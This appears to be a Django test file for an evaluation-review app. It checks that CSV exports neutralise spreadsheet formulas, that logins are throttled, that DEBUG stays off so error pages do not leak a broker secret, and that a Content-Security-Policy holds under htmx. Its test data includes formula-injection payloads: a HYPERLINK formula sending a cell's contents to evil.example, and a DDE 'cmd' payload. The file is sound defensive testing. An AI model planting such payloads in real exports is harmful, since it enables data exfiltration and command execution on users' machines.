"""Hardening: CSV exports that no spreadsheet runs, login throttling, DEBUG
off by default, and a Content-Security-Policy the pages and htmx live with."""

import csv
import io
import os
import re
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from csp.middleware import CSPMiddleware
from django.http import HttpResponse
from django.template import engines
from django.test import RequestFactory, TestCase, override_settings
from django.urls import reverse

from reviewapp.core.csv_cells import neutralise
from reviewapp.models import Finding, Score
from reviewapp.review.services.adjudication import Decision, adjudication_submit
from reviewapp.review.services.review import JudgementInput, judgement_submit, rubric_default
from reviewapp.review.services.samples import Frame, sample_assign, sample_draw
from tests.fixtures import load_generated_run
from tests.helpers import PASSWORD, make_user

ROOT = Path(__file__).resolve().parents[3]

# A formula, and each character OWASP lists as able to start one.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
CONTROL_STARTS = ["\t=1+1", "\r=1+1"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


class NeutraliseTests(TestCase):
    def test_it_puts_an_apostrophe_before_text_a_spreadsheet_would_run(self):
        for value in [*FORMULAS, *CONTROL_STARTS, "\n=1", "\0=1"]:
            self.assertEqual(neutralise(value), "'" + value)

    def test_it_leaves_other_text_and_numbers_alone(self):
        for value in ["plain", "a=b", " =1", "", 3, -2, -0.5, None, True]:
            self.assertEqual(neutralise(value), value)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


class CsvExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.logged_run = load_generated_run(answers=20, assistant="bot-csv-1", version="csv-1")
        cls.scoring = cls.logged_run.scorings.get()
        cls.lead_user = make_user("lead")
        reader = make_user("reader", "reviewer")
        Score.objects.create(scoring=cls.scoring, slice="-1+1", measure="numeric_accuracy", k=1, n=2)
        answer = cls.logged_run.answers.order_by("id").first()
        for question_id in [*FORMULAS, *CONTROL_STARTS]:
            Finding.objects.create(
                scoring=cls.scoring,
                answer=answer,
                kind=Finding.Kind.NUMERIC,
                detail="@detail",
                line_number=1,
                question_id=question_id,
                language="en",
            )
        cls.sample = sample_draw(
            frame=Frame(run=cls.logged_run), size=3, seed=2, rubric_version=rubric_default()
        )
        assignment = sample_assign(sample=cls.sample, reviewers=[reader], readers_per_item=1)[0]
        # Readers' and leads' text is stripped when saved, so a tab or carriage
        # return can lead only the findings' cells, which come from the log.
        material = {
            "error_claim": FORMULAS[0],
            "error_evidence": FORMULAS[1],
            "error_effect": FORMULAS[2],
            "error_kind": "wrong_conclusion",
        }
        judgement_submit(
            assignment=assignment,
            author=reader,
            data=JudgementInput(
                addresses_question=True,
                rubric_answers=dict.fromkeys(
                    ("series", "period", "unit", "caveat", "unsupported_claim"), "yes"
                ),
                grade="material_error",
                note=FORMULAS[3],
                **material,
            ),
            submission_key=uuid.uuid4(),
        )
        adjudication_submit(
            item=assignment.item,
            lead=cls.lead_user,
            decision=Decision(reason=FORMULAS[3], grade="material_error", **material),
            submission_key=uuid.uuid4(),
        )

    def setUp(self):
        self.client.login(username="lead", password=PASSWORD)

    def assert_neutralised(self, rows: list[list[str]], stored: list[str]):
        cells = [cell for row in rows for cell in row]
        for value in stored:
            self.assertIn("'" + value, cells)
        self.assertEqual([cell for cell in cells if cell.startswith(DANGEROUS_STARTS)], [])

    def test_it_neutralises_the_scores_export(self):
        url = reverse("export-scores", args=[self.logged_run.id, self.scoring.id, "csv"])
        self.assert_neutralised(csv_rows(self.client.get(url)), ["-1+1"])

    def test_it_neutralises_the_findings_export(self):
        url = reverse("export-findings", args=[self.logged_run.id, self.scoring.id, "csv"])
        self.assert_neutralised(csv_rows(self.client.get(url)), [*FORMULAS, *CONTROL_STARTS, "@detail"])

    def test_it_neutralises_the_judgements_export(self):
        url = reverse("export-judgements", args=[self.sample.id, "csv"])
        self.assert_neutralised(csv_rows(self.client.get(url)), FORMULAS)

    def test_it_neutralises_the_material_error_register(self):
        response = self.client.get(reverse("register"), {"format": "csv"})
        self.assert_neutralised(csv_rows(response), FORMULAS)

    def test_the_json_exports_keep_the_values_as_stored(self):
        url = reverse("export-findings", args=[self.logged_run.id, self.scoring.id, "json"])
        question_ids = {row["question_id"] for row in self.client.get(url).json()["findings"]}
        self.assertLessEqual({*FORMULAS, *CONTROL_STARTS}, question_ids)


@override_settings(AXES_ENABLED=True)
class LoginThrottleTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        make_user("lead")
        make_user("manager")

    def log_in(self, username: str, password: str):
        return self.client.post(reverse("login"), {"username": username, "password": password})

    def test_it_locks_an_account_after_five_wrong_passwords_even_for_the_right_one(self):
        for _ in range(4):
            refused = self.log_in("lead", "wrong-password")
            self.assertContains(refused, "did not match")
        locked = self.log_in("lead", "wrong-password")
        self.assertContains(
            locked, "This account is locked for 15 minutes after 5 failed logins", status_code=429
        )
        right = self.log_in("lead", PASSWORD)
        self.assertContains(right, "not even the right one", status_code=429)
        self.assertTemplateUsed(right, "registration/login.html")
        self.assertNotIn("_auth_user_id", self.client.session)

    def test_it_leaves_other_accounts_alone(self):
        for _ in range(5):
            self.log_in("lead", "wrong-password")
        self.assertRedirects(self.log_in("manager", PASSWORD), reverse("home"))

    def test_a_login_before_the_limit_clears_the_failures(self):
        for _ in range(4):
            self.log_in("lead", "wrong-password")
        self.assertRedirects(self.log_in("lead", PASSWORD), reverse("home"))
        self.client.logout()
        for _ in range(4):
            self.assertContains(self.log_in("lead", "wrong-password"), "did not match")
        self.assertRedirects(self.log_in("lead", PASSWORD), reverse("home"))


def run_python(code: str, **env) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if k not in {"DJANGO_DEBUG", "DJANGO_ENV"}}
    return subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env={**base, "DJANGO_SETTINGS_MODULE": "reviewapp.settings", **env},
        capture_output=True,
        text=True,
    )


SECRET_BROKER = "redis://:broker-secret-7q2@broker.internal.example:6379/4"

# A page that fails, answered as Django answers any uncaught exception.
FAILING_PAGE = """
import sys, django
django.setup()
from django.conf import settings
from django.core.handlers.exception import handle_uncaught_exception
from django.test import RequestFactory
from django.urls import get_resolver
print("DEBUG", settings.DEBUG)
try:
    raise RuntimeError("a page failed")
except RuntimeError:
    response = handle_uncaught_exception(
        RequestFactory().get("/", HTTP_HOST="localhost"), get_resolver(), sys.exc_info()
    )
print("STATUS", response.status_code)
print("BROKER SHOWN", "broker-secret-7q2" in response.content.decode())
"""


def test_debug_is_off_unless_asked_for_and_an_error_page_does_not_show_the_broker_url():
    result = run_python(FAILING_PAGE, CELERY_BROKER_URL=SECRET_BROKER)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split("\n")[:3] == ["DEBUG False", "STATUS 500", "BROKER SHOWN False"]


def test_debug_is_on_only_when_asked_for_and_then_its_page_shows_settings():
    # The check above would see the broker URL if the debug page were served.
    result = run_python(FAILING_PAGE, CELERY_BROKER_URL=SECRET_BROKER, DJANGO_DEBUG="1")
    assert result.returncode == 0, result.stderr
    assert result.stdout.split("\n")[:3] == ["DEBUG True", "STATUS 500", "BROKER SHOWN True"]


class ContentSecurityPolicyTests(TestCase):
    def policy(self, response) -> dict[str, list[str]]:
        header = response["Content-Security-Policy"]
        return {part.split()[0]: part.split()[1:] for part in header.split("; ")}

    def test_it_sends_a_policy_without_eval_or_inline_scripts(self):
        make_user("lead")
        pages = [self.client.get(reverse("login"))]
        self.client.login(username="lead", password=PASSWORD)
        pages += [self.client.get(reverse("version-list")), self.client.get(reverse("token-list"))]
        for response in pages:
            self.assertEqual(response.status_code, 200)
            policy = self.policy(response)
            self.assertNotIn("'unsafe-eval'", response["Content-Security-Policy"])
            self.assertEqual(policy["script-src"][0], "'self'")
            self.assertNotIn("'unsafe-inline'", policy["script-src"])
            self.assertEqual(policy["style-src"], ["'self'"])
            self.assertEqual(policy["object-src"], ["'none'"])
            self.assertEqual(policy["frame-ancestors"], ["'none'"])

    def test_it_names_the_nonce_of_an_inline_script_that_carries_one(self):
        # A template that needs an inline script writes nonce="{{ CSP_NONCE }}".
        request = RequestFactory().get("/")
        middleware = CSPMiddleware(lambda request: None)
        middleware.process_request(request)
        template = engines["django"].from_string('<script nonce="{{ CSP_NONCE }}">1</script>')
        html = template.render({"CSP_NONCE": request.csp_nonce})
        response = middleware.process_response(request, HttpResponse(html))
        nonce = re.search(r'nonce="([^"]+)"', html)[1]
        self.assertEqual(self.policy(response)["script-src"], ["'self'", f"'nonce-{nonce}'"])


TEMPLATES = sorted((ROOT / "templates").rglob("*.html"))


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda path: str(path.relative_to(ROOT / "templates")))
def test_templates_hold_no_script_the_policy_would_block(template):
    html = template.read_text()
    inline_scripts = [
        tag for tag in re.findall(r"<script\b[^>]*>", html) if "src=" not in tag and "nonce=" not in tag
    ]
    assert inline_scripts == [], 'move the script to static/ or give it nonce="{{ CSP_NONCE }}"'
    assert re.findall(r"\son[a-z]+\s*=", html) == [], "inline event handlers are blocked: use static/app.js"
    assert "javascript:" not in html


# Records what the browser refused under the policy; Playwright adds it
# outside the page's own scripts, so the policy does not apply to it.
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(event.violatedDirective + " " + event.blockedURI);
});
"""


@pytest.mark.django_db(transaction=True)
def test_pages_work_under_the_policy_with_htmx(live_server, browser):
    logged_run = load_generated_run(answers=60, assistant="bot-csp-1", version="csp-1")
    make_user("lead")
    page = browser.new_page(viewport={"width": 1366, "height": 768})
    page.add_init_script(WATCH_VIOLATIONS)
    console = []
    page.on("console", lambda message: console.append(message.text))
    page.goto(f"{live_server.url}/login/")
    page.fill("#id_username", "lead")
    page.fill("#id_password", PASSWORD)
    with page.expect_navigation():
        page.keyboard.press("Enter")

    # htmx swaps the findings when a filter changes, without reloading the page.
    page.goto(f"{live_server.url}/runs/{logged_run.id}/")
    page.evaluate("window.__marker = 'same page'")
    kind = page.locator("#findings select[name=kind]")
    value = kind.locator("option").nth(1).get_attribute("value")
    with page.expect_response(lambda response: response.request.headers.get("hx-request") == "true"):
        kind.select_option(value)
    page.wait_for_url(re.compile(f"kind={value}"))
    assert page.evaluate("window.__marker") == "same page"
    assert page.locator("#findings select[name=kind]").input_value() == value
    assert page.evaluate("window.__violations") == []

    # A select marked data-autosubmit sends its form (static/app.js, not an inline handler).
    page.goto(f"{live_server.url}/versions/")
    with page.expect_navigation():
        page.locator("select[name=set]").select_option("csp-1")
    assert "set=csp-1" in page.url
    assert page.evaluate("window.__violations") == []

    page.goto(f"{live_server.url}/tokens/")
    assert page.evaluate("window.__violations") == []
    assert [text for text in console if "Content Security Policy" in text] == []
